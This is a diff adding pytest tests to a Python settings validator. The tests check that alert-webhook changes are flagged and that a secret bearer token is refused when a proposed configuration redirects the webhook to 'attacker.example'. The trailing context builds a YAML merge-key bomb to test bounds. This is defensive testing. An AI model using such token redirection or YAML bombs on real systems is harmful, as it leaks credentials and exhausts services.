@@ -163,6 +163,44 @@ def test_own_sql_and_the_topics_of_messages_are_beyond_tables() -> None:
     assert beyond_tables(old, Settings()) == ["control.topics"]
 
 
+HOOK = "https://hooks.example.com/secret-path"
+
+
+def alerting(table: str = "final_ui", where: str = "balance > 1", **to: Any) -> dict[str, Any]:
+    return {"alerts": {"large": {"table": table, "where": where, "to": to or "log"}}}
+
+
+def test_webhook_that_is_new_or_changed_is_beyond_tables(tmp_path: Path) -> None:
+    def settings(**document: Any) -> Settings:
+        return parse(document, tmp_path, ENVIRON)
+
+    hooked = settings(**alerting(webhook=HOOK, headers={"Authorization": "a"}))
+    for old in (Settings(), settings(**alerting()), settings(**alerting(topic="alerts"))):
+        assert beyond_tables(old, hooked) == ["alerts.large.to"]
+        assert beyond_tables(hooked, old) == []
+    assert beyond_tables(hooked, settings(**alerting(webhook=HOOK + "x", headers={"Authorization": "a"}))) != []
+    assert beyond_tables(hooked, settings(**alerting(webhook=HOOK, headers={"Authorization": "b"}))) != []
+    assert beyond_tables(hooked, settings(**alerting(webhook=HOOK, private=True, headers={"Authorization": "a"}))) != []
+    other = alerting("users_ui", "age > 5", webhook=HOOK, headers={"Authorization": "a"})
+    assert beyond_tables(hooked, settings(**other)) == []
+
+
+@pytest.mark.parametrize("header", ["${OPS_TOKEN}", "Bearer ${OPS_TOKEN}", "***", {"env": "OPS_TOKEN"}])
+def test_secret_header_goes_to_no_other_address(tmp_path: Path, header: Any) -> None:
+    configuration = in_force(tmp_path, **alerting(webhook=HOOK, headers={"Authorization": "Bearer ${OPS_TOKEN}"}))
+    same = {"Authorization": "Bearer ${OPS_TOKEN}" if header != "***" else header}
+    for address in (HOOK, "***"):
+        proposed = configuration.proposed(yaml.safe_dump(alerting(webhook=address, headers=same)))
+        assert proposed.changes == ()
+    sent = alerting(webhook="https://attacker.example/", headers={"Authorization": header})
+    assert "alerts.large.to" in refused(configuration, sent)
+    if header in ("***", "Bearer ${OPS_TOKEN}"):
+        assert "another address gets no secret of the file in force" in refused(configuration, sent)
+    plain = alerting(webhook="https://attacker.example/", headers={"Authorization": "mine"})
+    [target, value] = configuration.proposed(yaml.safe_dump(plain)).changes
+    assert (target.before, target.after, value.before, value.after) == ("***",) * 4
+
+
 def test_merge_keys_are_bounded_before_they_are_merged(tmp_path: Path) -> None:
     keys = ", ".join(f"k{number}: 1" for number in range(2_000))
     bomb = f"x: &x {{{keys}}}\n" + "".join(f"m{n}: {{<<: [{', '.join(['*x'] * 100)}]}}\n" for n in range(300))
